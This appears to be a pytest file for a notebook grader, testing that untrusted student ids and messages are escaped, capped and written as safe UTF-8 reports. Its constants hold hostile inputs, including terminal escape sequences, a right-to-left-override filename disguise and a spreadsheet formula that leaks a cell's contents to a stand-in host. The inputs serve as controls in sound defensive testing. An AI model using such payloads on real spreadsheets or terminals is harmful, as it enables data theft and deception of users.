"""Student ids and messages are untrusted: the grader's outputs stay safe and bounded.

Whoever names the submission folders chooses the student ids, and students choose the text of
their error messages. Terminal escapes, bytes that are not UTF-8, spreadsheet formulas, names
that are equal once made safe, and hundreds of megabytes of cell errors must all give one row
and one distinct feedback page per student, valid UTF-8 everywhere, nothing raw on the
terminal, and pages of a sensible size (`nnutils/grading/names.py`, `report.py`). Each test
first shows the unsafe input that the names module is there for (a positive control).
"""

import csv
import hashlib
import html
import json
import os
import re
import subprocess
import sys
import unicodedata
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest

from nnutils.grading.engine import NotebookResult, SubmissionResult
from nnutils.grading.engine import TestResult as Verdict
from nnutils.grading.names import (
    clip,
    csv_cell,
    display_name,
    file_stem,
    file_stems,
    name_hash,
    record_id,
    safe_text,
)
from nnutils.grading.notebook import fill_answers, load_assignment, solution_answers
from nnutils.grading.report import grade_table, write_reports
from nnutils.grading.runner import grade_all

ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENT = "01_perceptron"
MB = 2**20

ESCAPES = "\x1b[2J\x1b[31mpwned"
CONTROLS = "bell\x07cr\rrtl\u202egnp.exe"
NOT_UTF8 = os.fsdecode(b"bad\xff\xfe")
FORMULA = '=HYPERLINK("evil.example?leak="&B2,"click me")'
DOMAIN = "students.university.example.org"
LONG = ("jane.doe+" * 30)[:200 - len(DOMAIN) - 1] + "@" + DOMAIN
HUGE = "huge"
# the smallest run that gave over 100 MB before the caps: 101 failing cells of 1 MB each
# (the red team's 3,000 cells of 100 kB are checked on the report alone, below)
HUGE_CELLS, HUGE_SIZE = 101, 1_000_000
STUDENTS = ["ada", ESCAPES, CONTROLS, NOT_UTF8, FORMULA, LONG, HUGE]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def unsafe(text: str, allow: str = "\n") -> set[str]:
    """Characters a terminal or an editor would act on rather than show."""
    return {ch for ch in text if ch not in allow
            and unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp")}


# ---- names.py on its own ------------------------------------------------------------------

def test_display_name_escapes_what_is_not_printable():
    assert "\x1b" in ESCAPES and unsafe(CONTROLS) == {"\x07", "\r", "\u202e"}   # controls
    assert display_name(ESCAPES) == "\\x1b[2J\\x1b[31mpwned"
    assert display_name(CONTROLS) == "bell\\x07cr\\x0drtl\\u202egnp.exe"
    assert display_name(NOT_UTF8) == "bad\\xff\\xfe"
    for ch, shown in [("\x00", "\\x00"), ("\x7f", "\\x7f"), ("\x85", "\\x85"),
                      ("\x9b", "\\x9b"), ("\u200b", "\\u200b"), ("\u2066", "\\u2066"),
                      ("\u2028", "\\u2028"), ("\u2029", "\\u2029"), ("\ufeff", "\\ufeff"),
                      ("\U000e0001", "\\U000e0001"), ("\ud800", "\\ud800")]:
        assert display_name(f"a{ch}b") == f"a{shown}b", repr(ch)
    for fine in ["ada", "José", "李雷", "Ünal O'Brien", "a b", "😀", "x\\y"]:
        assert display_name(fine) == fine
    assert all(not unsafe(display_name(chr(c))) for c in range(0x3000))


def test_display_name_is_capped_without_splitting_an_escape():
    assert display_name("a" * 80) == "a" * 80
    assert display_name("a" * 255) == "a" * 79 + "…"
    shown = display_name("\x1b" * 100)
    assert len(shown) <= 80 and shown.endswith("\\x1b…")
    assert len(display_name(LONG)) == 80


def test_undecodable_bytes_cannot_be_written_as_they_are():
    with pytest.raises(UnicodeEncodeError):                   # what crashed the reports
        NOT_UTF8.encode("utf-8")
    assert NOT_UTF8 == "bad\udcff\udcfe"
    for safe in (display_name(NOT_UTF8), record_id(NOT_UTF8), file_stem(NOT_UTF8),
                 safe_text(f"no file {NOT_UTF8}.ipynb", 100)):
        safe.encode("utf-8")
        assert not unsafe(safe)


def test_record_id_keeps_printable_ids_exactly():
    for name in ["ada", "José", "李雷", LONG, "a" * 255, FORMULA, "x\\y"]:
        assert record_id(name) == name
    assert record_id(NOT_UTF8) == "bad\\xff\\xfe"
    assert record_id(ESCAPES) == "\\x1b[2J\\x1b[31mpwned"
    assert len(record_id("\udcff" * 255)) == 4 * 255                 # never clipped on disk


def test_csv_cells_cannot_start_a_formula():
    for start in FORMULA_START:
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell(FORMULA) == "'" + FORMULA
    assert csv_cell("\uff1dSUM(A1)").startswith("'")                # full-width =
    for fine in ["ada", "a=b", "1.5", "", "'quoted"]:
        assert csv_cell(fine) == fine


def test_clip_says_how_much_was_cut():
    assert clip("short", 10) == "short"
    assert clip("x" * 16_345, 4_000) == "x" * 4_000 + "… [cut: 12,345 more characters]"
    assert clip("x" * 11, 10).endswith("[cut: 1 more character]")
    text = safe_text("line\n\tnext\x1b[0m" + "y" * 10_000, 100)
    assert text.startswith("line\n\tnext\\x1b[0m") and "[cut: " in text
    assert len(text) < 140 and not unsafe(text, "\n\t")


def test_file_stems_are_safe_distinct_and_stable():
    names = ["ada", "Ada", "ADA", "José", "Jose\u0301", "a b", "a?b", "a_b", "con", "NUL.txt",
             "-rf", "--", "...", "=1+1", "+x", "@x", "a" * 255, "a" * 254, ESCAPES, CONTROLS,
             NOT_UTF8, FORMULA, LONG, "e@x.org", "x.y-z_1+2"]
    # positive control: made safe naively, many of these are the same file or no file at all
    naive = [re.sub(r"[^A-Za-z0-9._@+-]", "_", n)[:100] for n in names]
    assert len({n.lower() for n in naive}) < len(names)
    stems = file_stems(names)
    assert len({s.lower() for s in stems.values()}) == len(names)
    for name, stem in stems.items():
        assert re.fullmatch(r"[A-Za-z0-9_@+][A-Za-z0-9._@+-]{0,99}", stem), (name, stem)
        assert stem.split(".")[0].lower() not in {"con", "nul", "prn", "aux"}
    for plain in ["José", "a_b", "e@x.org", "x.y-z_1+2", "a" * 100]:
        assert file_stems([plain]) == {plain: plain if plain.isascii() else stems[plain]}
    assert stems["e@x.org"] == "e@x.org" and stems["x.y-z_1+2"] == "x.y-z_1+2"
    # a name that is not its own stem carries 8 hex digits of the hash of its bytes
    digest = hashlib.sha256(os.fsencode(NOT_UTF8)).hexdigest()
    assert stems[NOT_UTF8] == f"bad-{digest[:8]}" == file_stem(NOT_UTF8)
    assert stems["José"] == f"Jose-{name_hash('José')}" != stems["Jose\u0301"]
    assert stems["-rf"].startswith("rf-") and stems["con"].startswith("con-")
    # the same student gets the same file in every run, in any order, with other classmates
    assert file_stems(reversed(names)) == stems
    for name in ["José", NOT_UTF8, FORMULA, ESCAPES, "-rf", "a" * 255]:
        assert file_stems([name, "bob"])[name] == stems[name] == file_stem(name)


def test_file_stems_resolve_every_collision():
    # names equal ignoring case both get a hash (the files may be copied to macOS or Windows)
    assert file_stems(["ada"]) == {"ada": "ada"}
    both = file_stems(["ada", "ADA"])
    assert both["ada"].startswith("ada-") and both["ADA"].startswith("ADA-")
    # a student named after another's hashed stem: both get longer hashes
    taken = file_stem("a b")
    clash = file_stems(["a b", taken])
    assert clash["a b"] != taken and clash[taken] != taken
    assert clash["a b"].lower() != clash[taken].lower()
    assert len(clash["a b"]) == len("a_b-") + 16
    # even at 64 digits: the same bytes given twice (not possible from one folder)
    assert len(set(file_stems(["é", "\udcc3\udca9"]).values())) == 2
    assert file_stem("ada", used={"ADA"}) != "ada"
    assert file_stem("ada", used={"bob"}) == "ada"


# ---- reports on made-up results (no grading) ----------------------------------------------

def made_up(student: str, assignment, message: str = "", notes=(), errors=()):
    notebooks = [NotebookResult(anb.name, file=f"{anb.name}.ipynb",
                                tests=[Verdict(t.grade_id, t.function, t.points, t.points,
                                                  True, message) for t in anb.tests],
                                notes=list(notes), cell_errors=list(errors))
                 for anb in assignment.notebooks]
    return SubmissionResult(student, assignment.name, notebooks, assignment.max_score)


ISOLATION = SimpleNamespace(mode="none", reason="")


def test_every_name_gets_one_row_and_its_own_page(tmp_path):
    assignment = load_assignment(ROOT, ASSIGNMENT)
    names = ["bob", "ada", "Ada", "con", "-rf", "=1+1", "+cmd", "@SUM(A1)", "a" * 255, "José",
             "Jose\u0301", "a b", "a?b", file_stem("a b"), "...", ESCAPES, CONTROLS, NOT_UTF8,
             FORMULA, LONG]
    results = [made_up(n, assignment) for n in names]
    with pytest.raises(UnicodeEncodeError):                  # positive control: the crash
        (tmp_path / "raw.html").write_text(NOT_UTF8, encoding="utf-8")
    write_reports(results, assignment, tmp_path, 1.0, ISOLATION)
    pages = sorted((tmp_path / "feedback").iterdir())
    assert len(pages) == len(names) == len({p.name.lower() for p in pages})
    records = json.loads((tmp_path / "results.json").read_bytes().decode("utf-8"))
    assert [r["student"] for r in records] == [record_id(n) for n in names]
    assert [r["display_name"] for r in records] == [display_name(n) for n in names]
    assert {r["feedback"] for r in records} == {f"feedback/{p.name}" for p in pages}
    assert records[0]["feedback"] == "feedback/bob.html"
    assert records[1]["feedback"] == f"feedback/ada-{name_hash('ada')}.html"
    rows = list(csv.reader((tmp_path / "grades.csv").read_bytes().decode("utf-8")
                           .splitlines()))[1:]
    assert [row[0] for row in rows] == [csv_cell(record_id(n)) for n in names]
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)
    summary = (tmp_path / "summary.html").read_text(encoding="utf-8")
    assert sorted(re.findall(r"href='feedback/([^']+)'", summary)) == [p.name for p in pages]
    for path in [tmp_path / "grades.csv", tmp_path / "results.json",
                 tmp_path / "summary.html", *pages]:
        text = path.read_bytes().decode("utf-8")
        assert not unsafe(text.replace("\r\n", "\n")), path.name
    for name, record in zip(names, records):
        page = (tmp_path / record["feedback"]).read_text(encoding="utf-8")
        assert f"feedback for {html.escape(display_name(name))}</h1>" in page


def test_huge_messages_are_capped_in_every_report(tmp_path):
    assignment = load_assignment(ROOT, ASSIGNMENT)
    message = 'x"<' * 33_334                                   # 100 kB, 3 to 6 bytes in HTML
    errors = [f"Cell 9 raised ValueError: {message}"] * 3_000    # one string, 300 MB listed
    notes = ["\U0001f600\x1b" * 50_000] * 500                   # 4-byte characters, escapes
    hog = made_up("hog", assignment, message="y" * 16 * MB, notes=notes, errors=errors)
    raw = (sum(map(len, errors)) + sum(map(len, notes))
           + sum(len(t.message) for nb in hog.notebooks for t in nb.tests))
    assert raw > 300 * 10**6                                    # positive control
    write_reports([made_up("ada", assignment), hog], assignment, tmp_path, 1.0, ISOLATION)
    page = (tmp_path / "feedback" / "hog.html").read_text(encoding="utf-8")
    assert len(page.encode()) < MB / 2
    assert "… and 2,950 more errors (not shown)" in page
    assert "… and 450 more notes (not shown)" in page
    assert "more characters]" in page
    records = json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))
    share = json.dumps(records[1], ensure_ascii=False).encode()
    assert len(share) < MB / 2
    assert records[1]["notebooks"][0]["cell_errors_omitted"] == 2_950
    assert records[1]["notebooks"][0]["notes_omitted"] == 450
    assert len(records[1]["notebooks"][0]["cell_errors"]) == 50
    ada = records[0]["notebooks"][0]
    assert ada["cell_errors"] == ada["notes"] == [] and records[0]["score"] == 13
    assert ada["cell_errors_omitted"] == ada["notes_omitted"] == 0


# ---- the real grader ------------------------------------------------------------------------

@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("names")
    subs, out = tmp / "subs", tmp / "out"
    subs.mkdir()
    source = nbformat.read(ROOT / "solutions" / ASSIGNMENT / "perceptron.ipynb", as_version=4)
    release = nbformat.read(ROOT / "assignments" / ASSIGNMENT / "perceptron.ipynb",
                            as_version=4)
    good = solution_answers(source)
    for student in STUDENTS:
        nb = fill_answers(release, good)
        if student == HUGE:
            nb.cells += [nbformat.v4.new_code_cell(f"raise ValueError('x' * {HUGE_SIZE})")
                         for _ in range(HUGE_CELLS)]
        folder = os.path.join(os.fsencode(str(subs)), os.fsencode(student))
        os.mkdir(folder)
        with open(os.path.join(folder, b"perceptron.ipynb"), "w", encoding="utf-8") as fh:
            nbformat.write(nb, fh)
    assert os.path.isdir(os.path.join(os.fsencode(str(subs)), b"bad\xff\xfe"))
    results = grade_all(ROOT, ASSIGNMENT, subs, out, jobs=2, timeout=10, progress=False)
    return {"subs": subs, "out": out, "results": {r.student: r for r in results},
            "table": grade_table(results)}


def full_marks(graded, students) -> dict:
    """The students among ``students`` without full marks, with their notes."""
    full = load_assignment(ROOT, ASSIGNMENT).max_score
    results = graded["results"]
    return {s: results[s].notebooks[0].notes for s in students
            if results[s].score != full or results[s].status != "graded"}


def test_every_student_gets_one_row_and_one_page(graded):
    results, out = graded["results"], graded["out"]
    assert sorted(results) == sorted(STUDENTS)
    rows = list(csv.DictReader((out / "grades.csv").read_bytes().decode("utf-8")
                               .splitlines()))
    assert sorted(row["student_id"] for row in rows) == sorted(
        csv_cell(record_id(s)) for s in STUDENTS)
    by_id = {row["student_id"]: row for row in rows}
    assert "ada" in by_id and LONG in by_id and "bad\\xff\\xfe" in by_id
    assert by_id["'" + FORMULA]["score"] == "13"
    assert by_id["ada"]["score"] == "13"
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row.values())
    pages = sorted((out / "feedback").iterdir())
    assert len(pages) == len(STUDENTS) == len({p.name.lower() for p in pages})
    records = json.loads((out / "results.json").read_bytes().decode("utf-8"))
    assert sorted(r["feedback"] for r in records) == sorted(f"feedback/{p.name}" for p in pages)
    assert {r["student"]: r["feedback"] for r in records}["ada"] == "feedback/ada.html"
    summary = (out / "summary.html").read_text(encoding="utf-8")
    assert sorted(re.findall(r"href='feedback/([^']+)'", summary)) == [p.name for p in pages]


def test_names_the_engine_can_use_get_full_marks(graded):
    assert full_marks(graded, ["ada", ESCAPES, CONTROLS, FORMULA, HUGE]) == {}


def test_non_utf8_and_long_names_get_full_marks(graded):
    """Names reach no path and no socket address: a 200-character e-mail address or bytes
    that are not UTF-8 once cost a correct notebook all its points."""
    assert full_marks(graded, [NOT_UTF8, LONG]) == {}


def test_reports_are_utf8_without_raw_control_characters(graded):
    out = graded["out"]
    assert unsafe(ESCAPES + CONTROLS + NOT_UTF8)                # positive control
    for path in [out / "grades.csv", out / "results.json", out / "summary.html",
                 *(out / "feedback").iterdir()]:
        text = path.read_bytes().decode("utf-8")               # strict: raises if not UTF-8
        assert not unsafe(text.replace("\r\n", "\n")), path.name
    summary = (out / "summary.html").read_text(encoding="utf-8")
    assert "\\x1b[2J\\x1b[31mpwned" in summary and "bad\\xff\\xfe" in summary


def test_printed_table_shows_names_without_acting_on_them(graded):
    table = graded["table"]
    naive = "\n".join(r.student for r in graded["results"].values())
    assert {"\x1b", "\r", "\x07", "\u202e"} <= unsafe(naive)  # positive control
    assert not unsafe(table)
    for student in STUDENTS:
        assert display_name(student) in table
    assert re.search(r"^ada\s+13\s+13\s+graded", table, re.M)
    assert len(table.splitlines()) == len(STUDENTS) + 2


def test_huge_cell_errors_are_cut_and_cost_no_one_else(graded):
    raw = graded["results"][HUGE].notebooks[0].cell_errors
    assert HUGE_CELLS * HUGE_SIZE > 100 * 10**6         # positive control: what the cells raise
    # the grader keeps at most a few kB of each error from the kernel, before any report
    assert len(raw) == HUGE_CELLS and max(map(len, raw)) < 3000
    out = graded["out"]
    records = {r["student"]: r for r in json.loads((out / "results.json").read_text("utf-8"))}
    huge = records[HUGE]
    page = (out / huge["feedback"]).read_text(encoding="utf-8")
    assert len(page.encode()) < MB and len(json.dumps(huge).encode()) < MB
    assert (out / "results.json").stat().st_size < MB
    assert "more characters]" in page and f"and {HUGE_CELLS - 50} more errors" in page
    assert huge["notebooks"][0]["cell_errors_omitted"] == HUGE_CELLS - 50
    assert huge["score"] == 13 and huge["status"] == "graded"
    for student in STUDENTS:
        if student == HUGE:
            continue
        record = records[record_id(student)]
        raw_nb = graded["results"][student].notebooks[0]
        assert record["notebooks"][0]["cell_errors"] == raw_nb.cell_errors == []
        assert record["notebooks"][0]["notes"] == raw_nb.notes
        assert [t["message"] for t in record["notebooks"][0]["tests"]] == \
            [t.message for t in raw_nb.tests]


def test_cli_prints_nothing_raw_even_to_an_ascii_terminal(graded, tmp_path):
    env = dict(os.environ, PYTHONPATH=str(ROOT), PYTHONIOENCODING="ascii")
    result = subprocess.run([sys.executable, "-m", "nnutils", "grade", ASSIGNMENT,
                             str(graded["subs"]), "--out", str(tmp_path / "out"), "--jobs",
                             "2", "--timeout", "10", "--quiet"],
                            cwd=ROOT, env=env, capture_output=True, timeout=300)
    assert result.returncode == 0, result.stderr.decode(errors="replace")[-2000:]
    stdout = result.stdout.decode("ascii")                     # strict
    assert not unsafe(stdout)
    assert "\\x1b[2J\\x1b[31mpwned" in stdout and "bad\\xff\\xfe" in stdout
    assert re.search(r"^ada\s+13\s+13\s+graded", stdout, re.M)
    assert len(list((tmp_path / "out" / "feedback").iterdir())) == len(STUDENTS)
